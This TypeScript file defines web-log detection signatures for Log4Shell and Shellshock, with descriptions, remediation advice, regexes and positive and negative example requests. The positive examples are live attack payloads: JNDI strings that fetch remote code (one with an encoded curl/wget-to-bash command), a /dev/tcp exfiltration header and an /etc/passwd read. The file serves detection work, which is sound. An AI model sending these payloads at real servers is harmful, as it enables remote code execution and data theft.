import type { Signature } from '../types.js';

const CROWDSEC = 'crowdsec-hub-tests corpus (crowdsecurity/hub test logs)';
const SMALLSITE = 'smallsite-2015-2018 corpus';

export const injection: Signature[] = [
  {
    id: 'log4shell-jndi', family: 'log4shell', title: 'Log4Shell JNDI lookup (CVE-2021-44228)',
    description:
      'Log4Shell is a hole in Apache Log4j 2 (before 2.17.1): any text it logs that contains ${jndi:ldap://...} makes the Java application fetch and run code from the attacker\'s server. ' +
      'Attackers put the string in the URL and in every header (User-Agent, Referer, X-Api-Version, Cookie), often disguised as ${${lower:j}ndi:...}, ${${::-j}${::-n}${::-d}${::-i}:...} or percent-encoded as $%7Bjndi:, hoping one of them reaches a log. ' +
      'The sending host is a scanner or a compromised machine working for a botnet. If one of your Java services was vulnerable, upgrade Log4j to 2.17.1 or later (or remove the JndiLookup class), and look for unexpected outbound LDAP/RMI connections and new processes since December 2021.',
    references: ['CVE-2021-44228', 'CVE-2021-45046', 'OWASP CRS 944150', 'CrowdSec crowdsecurity/apache_log4j2_cve-2021-44228'],
    stage: 'request', stageReason: 'A JNDI lookup string has no place in a URL or header; it is an exploitation attempt whatever the answer.',
    match: { target: 'all', pattern: '\\$\\{(?:[jndi]{0,4}\\$\\{|jndi:)', literals: ['${'] },
    examples: {
      positive: [
        { request: 'GET / HTTP/1.1', headers: { 'user-agent': '${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1cmwgLXMgNDUuMTU1LjIwNS4yMzM6NTg3NC84Mi42NC4xNDUuMTQxOjQ0M3x8d2dldCAtcSAtTy0gNDUuMTU1LjIwNS4yMzM6NTg3NC84Mi42NC4xNDUuMTQxOjQ0Myl8YmFzaA==}' }, source: CROWDSEC },
        { request: 'GET / HTTP/1.1', headers: { referer: '${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}' }, source: CROWDSEC },
        { request: 'GET / HTTP/1.1', headers: { 'x-api-version': '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.7:1389/a}' }, source: 'Cloudflare Log4Shell evasion write-up' },
        { request: 'GET / HTTP/1.1', headers: { cookie: 'session=${${lower:jndi}:${lower:rmi}://198.51.100.7/a}' } },
        { request: 'GET /$%7Bjndi:ldap://198.51.100.7:1389/Exploit%7D HTTP/1.1', source: 'Log4Shell scans in the request path' },
        { request: 'GET /?x=${j${::-n}di:dns://198.51.100.7/a} HTTP/1.1' },
      ],
      negative: [
        { request: 'GET /app/${id}/edit HTTP/1.1', source: 'an unexpanded template in a broken link' },
        { request: 'GET / HTTP/1.1', headers: { 'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36', cookie: 'price=${amount}' } },
      ],
    },
  },
  {
    id: 'shellshock', family: 'shellshock', title: 'Shellshock bash function injection (CVE-2014-6271)',
    description:
      'Shellshock is a hole in the bash shell (before the September 2014 patches): an environment variable whose value starts with "() {" is parsed as a function and the commands after it run. CGI scripts copy request headers into environment variables, so attackers send User-Agent or Referer values such as "() { :; }; /bin/ping ..." or "() { :; }; wget http://.../bot". ' +
      'The sending host is a scanner or an infected machine. If your server runs CGI scripts, update bash and check for unknown processes and files in /tmp.',
    references: ['CVE-2014-6271', 'CVE-2014-7169', 'OWASP CRS 932170', 'Snort SID 31975'],
    stage: 'request', stageReason: 'A header that starts with a bash function definition is an exploitation attempt whatever the answer.',
    match: { target: 'all', pattern: '[\\n:?=&] *\\(\\)\\s*\\{', literals: ['()'] },
    examples: {
      positive: [
        { request: 'GET / HTTP/1.1', headers: { referer: '() { :; }; /bin/ping -c 3 82.118.236.247' }, source: SMALLSITE },
        { request: 'GET / HTTP/1.1', headers: { 'user-agent': '(){ :; };uname -a > /dev/tcp/104.192.0.21/53' }, source: SMALLSITE },
        { request: 'GET /admin.cgi HTTP/1.1', headers: { referer: 'http://google.com/search?q=2+guys+1+horse', 'user-agent': '() { goo;}; echo Content-Type: text/plain ; echo ; echo shellshot_`expr 1344 - 7`' }, source: SMALLSITE },
        { request: 'GET /cgi-bin/status?() { :; }; echo; /bin/cat /etc/passwd HTTP/1.1' },
      ],
      negative: [
        { request: 'GET / HTTP/1.1', headers: { 'user-agent': 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' } },
        { request: 'GET / HTTP/1.1', headers: { referer: 'https://example.net/docs?code=function%20f()%20%7B%7D' } },
      ],
    },
  },
];
